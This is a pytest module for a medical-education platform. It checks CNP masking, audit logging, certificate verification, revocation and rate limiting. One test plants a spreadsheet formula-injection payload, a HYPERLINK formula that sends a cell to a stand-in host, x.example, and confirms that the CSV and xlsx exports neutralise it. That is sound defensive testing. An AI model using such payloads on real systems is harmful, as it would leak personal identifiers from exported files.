"""Participants, exports, CNP reveal, certificates and the doctor's page against a real
`medroom serve` started like `make run` (demo accounts, so the demo CME programme is built from
the demo room's sessions); the pages driven in headless Chromium."""

from __future__ import annotations

import csv
import io
import re
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import httpx
import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from library.cme import audit
from library.cme.demo import DEMO_REF
from library.db import Database
from library.users import get_user_by_username, set_password
from tests.conftest import PASSWORD, REPO, Server, start_server
from tests.library.cme.test_certificates import qr_text

CHROMIUM = "/usr/bin/chromium"
ARTIFACTS = REPO / "test-artifacts"
CNP_RE = re.compile(r"\b[1-9]\d{12}\b")


@dataclass
class Demo:
    server: Server
    programme_id: int

    def db(self) -> Database:
        return Database(f"sqlite:///{self.server.data_dir / 'medroom.db'}")

    def login(self, username: str) -> httpx.Client:
        client = httpx.Client(base_url=self.server.url, timeout=60)
        csrf = client.get("/login").text.split('name="csrf" value="')[1].split('"')[0]
        r = client.post("/login", data={"username": username, "password": PASSWORD,
                                        "csrf": csrf})
        assert r.status_code == 303, r.text
        page = client.get("/cme/me").text
        client.headers["X-CSRF-Token"] = page.split('name="csrf-token" content="')[1].split('"')[0]
        return client

    def log(self, action: audit.Action) -> list[audit.Entry]:
        db = self.db()
        try:
            return audit.entries(db, audit.Filter(programme_id=self.programme_id,
                                                  action=action.value))
        finally:
            db.dispose()


@pytest.fixture(scope="module")
def demo(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Demo]:
    data_dir: Path = tmp_path_factory.mktemp("medroom-demo")
    for server in start_server(data_dir, create_users=False):
        db = Database(f"sqlite:///{data_dir / 'medroom.db'}")
        try:
            for name in ("admin", "instructor", "curator", "student", "demo.ionescu"):
                user = get_user_by_username(db, name)
                assert user is not None, f"demo account {name} missing"
                set_password(db, user.id, PASSWORD)
        finally:
            db.dispose()
        admin = Demo(server, 0).login("admin")
        [programme] = [p for p in admin.get("/api/cme/programmes").json() if p["ref"] == DEMO_REF]
        yield Demo(server, programme["id"])


def test_art_6_5_organisers_see_the_list_masked_others_do_not(demo: Demo) -> None:
    path = f"/api/cme/programmes/{demo.programme_id}/participants"
    assert demo.login("student").get(path).status_code == 403
    assert demo.login("curator").get(path).status_code == 403  # organises nothing of it
    r = demo.login("instructor").get(path)
    assert r.status_code == 200
    body = r.json()
    assert body["programme_credits"] == 3 and not body["cnp_revealed"]
    assert body["may_reveal"]  # the instructor organises this programme
    assert not CNP_RE.search(r.text)
    names = {p["full_name"]: p for p in body["participants"]}
    assert names["Marko Jovanović"]["credits"] == 3 and names["Andrei Țurcanu"]["credits"] == 0
    assert body["missing_profiles"] == ["guest-rezident-7f3a"]
    assert demo.log(audit.Action.LIST_VIEW)


def test_art_6_5_full_cnps_only_for_the_organiser_or_an_admin_and_logged(demo: Demo) -> None:
    base = f"/api/cme/programmes/{demo.programme_id}/participants"
    curator = demo.login("curator")
    r = curator.get(f"{base}.csv", params={"cnp": "full"})
    assert r.status_code == 403 and "you do not organise" in r.json()["detail"]
    assert curator.get(f"{base}.csv").status_code == 403
    masked = demo.login("instructor").get(f"{base}.csv")
    assert masked.status_code == 200 and not CNP_RE.search(masked.content.decode("utf-8-sig"))
    assert demo.login("instructor").get(f"{base}.docx").status_code == 404
    before = len(demo.log(audit.Action.LIST_EXPORT))
    instructor = demo.login("instructor")  # created the demo programme
    r = instructor.get(f"{base}.xlsx", params={"cnp": "full"})
    assert r.status_code == 200 and r.headers["cache-control"] == "no-store"
    assert 'filename="participant-list-MR-DEMO-ORL-01.xlsx"' in r.headers["content-disposition"]
    sheet = load_workbook(io.BytesIO(r.content)).active
    assert sheet is not None
    cnps = [row[2] for row in sheet.iter_rows(values_only=True) if row and row[2]
            and CNP_RE.fullmatch(str(row[2]))]
    assert len(cnps) == 3
    exports = demo.log(audit.Action.LIST_EXPORT)
    assert len(exports) == before + 1
    assert (exports[0].actor, exports[0].detail) == ("instructor", {"format": "xlsx", "cnp": "full"})
    pdf = demo.login("admin").get(f"{base}.pdf", params={"cnp": "full"})
    assert pdf.headers["content-type"] == "application/pdf"
    words = " ".join(PdfReader(io.BytesIO(pdf.content)).pages[0].extract_text().split())
    assert "Maria-Ștefania Ionescu" in words and all(c in words for c in cnps)
    rows = list(csv.reader(io.StringIO(
        instructor.get(f"{base}.csv", params={"cnp": "full"}).content.decode("utf-8-sig"))))
    assert sorted(r[2] for r in rows[1:] if r[2]) == sorted(cnps)


def test_art_6_5_revealing_one_cnp_is_logged(demo: Demo) -> None:
    url = f"/api/cme/programmes/{demo.programme_id}/participants/demo.ionescu/cnp"
    assert demo.login("curator").post(url).status_code == 403
    instructor = demo.login("instructor")
    assert httpx.post(demo.server.url + url, cookies=instructor.cookies).status_code == 403  # CSRF
    r = instructor.post(url)
    assert r.status_code == 200 and CNP_RE.fullmatch(r.json()["cnp"])
    [entry, *_] = demo.log(audit.Action.CNP_REVEAL)
    assert (entry.actor, entry.detail) == ("instructor", {"person_id": "demo.ionescu"})
    assert r.json()["cnp"] not in str(entry.detail)
    missing = f"/api/cme/programmes/{demo.programme_id}/participants/guest-rezident-7f3a/cnp"
    assert instructor.post(missing).status_code == 404


def test_a_doctor_keeps_a_profile_and_a_bad_cnp_is_refused(demo: Demo) -> None:
    ionescu = demo.login("demo.ionescu")
    profile = ionescu.get("/api/cme/me/profile").json()
    assert profile["cnp_masked"].startswith("•••••••••") and not CNP_RE.search(str(profile))
    body = {k: profile[k] for k in ("full_name", "specialty", "grade", "workplace")}
    body["titles"] = [{k: t[k] for k in ("kind", "obtained_on", "subject", "years")}
                      for t in profile["titles"]]
    r = ionescu.put("/api/cme/me/profile", json={**body, "cnp": "2850711123459"})
    assert r.status_code == 422 and "check digit" in r.json()["detail"]
    r = ionescu.put("/api/cme/me/profile", json={**body, "cnp": "1980315220017"})
    assert r.status_code == 409 and "already on another account" in r.json()["detail"]
    r = ionescu.put("/api/cme/me/profile", json={**body, "workplace": "SCJU Cluj"})
    assert r.status_code == 200 and r.json()["cnp_masked"] == profile["cnp_masked"]
    assert httpx.get(demo.server.url + "/api/cme/me/profile").status_code == 401


def test_art_29_the_score_adds_titles_once_with_explanations(demo: Demo) -> None:
    score = demo.login("student").get("/api/cme/me/score").json()
    # 3 credits of the demo event + 50 for the resident title obtained two years ago.
    assert (score["programme_credits"], score["title_credits"], score["total"]) == (3, 50, 53)
    assert score["explain"][-1].startswith("art. 29 alin. (1): total 3 + 50")
    assert any("art. 29 alin. (1) lit. a" in line for line in score["explain"])
    [cert] = score["certificates"]
    assert cert["credits"] == 3 and cert["download"].endswith(".pdf")


def test_art_26_certificates_download_and_public_verification(demo: Demo) -> None:
    student = demo.login("student")
    [cert] = student.get("/api/cme/me/score").json()["certificates"]
    r = student.get(cert["download"])
    assert r.status_code == 200 and r.headers["content-type"] == "application/pdf"
    assert qr_text(r.content) == f"{demo.server.url}/verify/{cert['number']}"
    # Another doctor's certificate is not yours: the same 404 as a number that does not exist.
    ionescu_cert = demo.login("demo.ionescu").get("/api/cme/me/score").json()["certificates"][0]
    assert student.get(ionescu_cert["download"]).status_code == 404
    assert student.get("/api/cme/certificates/MR-2026-999999.pdf").status_code == 404
    # Public: no login; initials, programme, date, credits; no name.
    page = httpx.get(f"{demo.server.url}/verify/{cert['number']}")
    assert page.status_code == 200 and "Valid certificate" in page.text
    assert "M. J." in page.text and "Jovanović" not in page.text and "3 CME credits" in page.text
    forged = httpx.get(f"{demo.server.url}/verify/MR-2026-123456")
    assert forged.status_code == 404 and "Certificate not found" in forged.text
    # Issuing again through the API: nothing new, the reasons for the others.
    r = demo.login("instructor").post(f"/api/cme/programmes/{demo.programme_id}/certificates")
    assert r.status_code == 200
    assert (len(r.json()["issued"]), len(r.json()["already_issued"])) == (0, 2)


@pytest.mark.browser
def test_doctor_page_and_participant_list_in_headless_chromium(demo: Demo) -> None:
    from playwright.sync_api import sync_playwright

    ARTIFACTS.mkdir(exist_ok=True)
    with sync_playwright() as p:
        browser = p.chromium.launch(
            executable_path=CHROMIUM, args=["--no-sandbox", "--disable-gpu", "--headless"]
        )
        try:
            for username, path, name in (
                ("student", "/cme", "cme_doctor"),
                ("instructor", f"/cme/programmes/{demo.programme_id}/participants",
                 "cme_participants"),
                (None, "/verify/MR-2026-000001", "cme_verify"),
            ):
                context = browser.new_context(viewport={"width": 1440, "height": 900}, bypass_csp=True)
                page = context.new_page()
                if username:
                    page.goto(demo.server.url + "/login")
                    page.fill("input[name=username]", username)
                    page.fill("input[name=password]", PASSWORD)
                    page.click("button[type=submit]")
                    page.wait_for_url(demo.server.url + "/")
                page.goto(demo.server.url + path)
                if name == "cme_doctor":
                    assert page.locator("#score-total .big").inner_text() == "53"
                    assert "art. 29 alin. (1) lit. a" in page.inner_text("#title-steps")
                    # Romanian (the College's), and Romanian with the page's language.
                    assert page.locator(".cert-list a", has_text="PDF").count() == 2
                    assert page.locator(".cert-list a[href$='?also=en']").count() == 1
                    assert page.locator("#titles .title-row").count() == 1
                if name == "cme_participants":
                    assert page.locator("table.participants tbody tr").count() == 4
                    assert "Maria-Ștefania Ionescu" in page.inner_text("table.participants")
                    row = page.locator("tr[data-person='demo.ionescu']")
                    row.locator("button.reveal").click()
                    page.wait_for_function(
                        "() => /^[1-9][0-9]{12}$/.test(document.querySelector("
                        "\"tr[data-person='demo.ionescu'] td.cnp code\").textContent)"
                    )
                    assert "access log" in page.inner_text("#list-message")
                    # Revoking a certificate from the list asks for the reason.
                    page.once("dialog", lambda d: d.accept("issued before the gap was seen"))
                    row.locator("button.revoke").click()
                    page.wait_for_selector("tr[data-person='demo.ionescu'] span.no:text('revoked')")
                    assert "revoked" in page.inner_text("#list-message")
                page.screenshot(path=str(ARTIFACTS / f"{name}.png"), full_page=True)
                context.close()
        finally:
            browser.close()


def test_art_26_a_certificate_issued_in_error_is_revoked_and_says_so(demo: Demo) -> None:
    organiser, student = demo.login("instructor"), demo.login("student")
    [cert] = student.get("/api/cme/me/score").json()["certificates"]
    # Only organisers revoke, with a reason.
    r = student.post(f"/api/cme/certificates/{cert['number']}/revoke", json={"reason": "mine"})
    assert r.status_code == 403
    r = organiser.post(f"/api/cme/certificates/{cert['number']}/revoke", json={"reason": ""})
    assert r.status_code == 422
    r = organiser.post("/api/cme/certificates/MR-2026-999999/revoke", json={"reason": "typo"})
    assert r.status_code == 404 and "no certificate" in r.json()["detail"]
    reason = "attendance gap found after issuing"
    r = organiser.post(f"/api/cme/certificates/{cert['number']}/revoke", json={"reason": reason})
    assert r.status_code == 200 and r.json()["valid"] is False
    again = organiser.post(f"/api/cme/certificates/{cert['number']}/revoke", json={"reason": reason})
    assert again.status_code == 409 and "already revoked" in again.json()["detail"]
    # The public page and the holder's own page say so; the reason is in the access log.
    page = httpx.get(f"{demo.server.url}/verify/{cert['number']}")
    assert "Revoked certificate" in page.text and "Valid certificate" not in page.text
    assert student.get("/api/cme/me/score").json()["certificates"][0]["valid"] is False
    log = demo.log(audit.Action.CERTIFICATE_REVOKE)
    assert [e.detail["reason"] for e in log if e.target_id == cert["number"]] == [reason]


def test_art_26_verification_numbers_cannot_be_walked_from_one_address(demo: Demo) -> None:
    # Certificate numbers run in sequence: 30 look-ups a minute per address, then 429. The
    # bucket refills by one every 2 s while the loop runs: that much more is allowed.
    statuses = []
    started = time.monotonic()
    for n in range(1, 201):
        r = httpx.get(f"{demo.server.url}/verify/MR-2026-{n:06d}")
        statuses.append(r.status_code)
        if r.status_code == 429:
            break
    refilled = (time.monotonic() - started) / 2
    # (the module's earlier tests looked up a few certificates from this address too)
    assert statuses[-1] == 429 and 20 <= len(statuses) <= 32 + refilled, statuses
    assert 1 <= int(r.headers["Retry-After"]) <= 2 and "Too many look-ups" in r.text
    assert "Holder" not in r.text and "Credits" not in r.text  # nothing about the certificate


def test_a_formula_for_a_name_reaches_the_exports_as_text(demo: Demo) -> None:
    # A participant names themself with a formula: the organiser's CSV and xlsx (the files that
    # can carry full CNPs) must show it, not run it and send the row to another site.
    ionescu = demo.login("demo.ionescu")
    profile = ionescu.get("/api/cme/me/profile").json()
    body = {k: profile[k] for k in ("full_name", "specialty", "grade", "workplace")}
    body["titles"] = [{k: t[k] for k in ("kind", "obtained_on", "subject", "years")}
                      for t in profile["titles"]]
    link = '=HYPERLINK("http://x.example/?"&C5,"Ionescu")'
    r = ionescu.put("/api/cme/me/profile",
                    json={**body, "full_name": link, "workplace": "@SUM(1+1)"})
    assert r.status_code == 200, r.text
    try:
        base = f"/api/cme/programmes/{demo.programme_id}/participants"
        instructor = demo.login("instructor")
        text = instructor.get(f"{base}.csv", params={"cnp": "full"}).content.decode("utf-8-sig")
        [row] = [r for r in csv.reader(io.StringIO(text, newline="")) if "HYPERLINK" in r[1]]
        assert row[1] == "'" + link and row[5] == "'@SUM(1+1)" and row[6].isdigit()
        r = instructor.get(f"{base}.xlsx", params={"cnp": "full"})
        sheet = load_workbook(io.BytesIO(r.content)).active
        assert sheet is not None
        [cells] = [c for c in sheet.iter_rows() if "HYPERLINK" in str(c[1].value)]
        assert (cells[1].data_type, cells[1].value) == ("s", "'" + link)
        assert (cells[5].data_type, cells[5].value) == ("s", "'@SUM(1+1)")
        assert cells[6].data_type == "n"  # the credits stay a number
    finally:
        assert ionescu.put("/api/cme/me/profile", json=body).status_code == 200
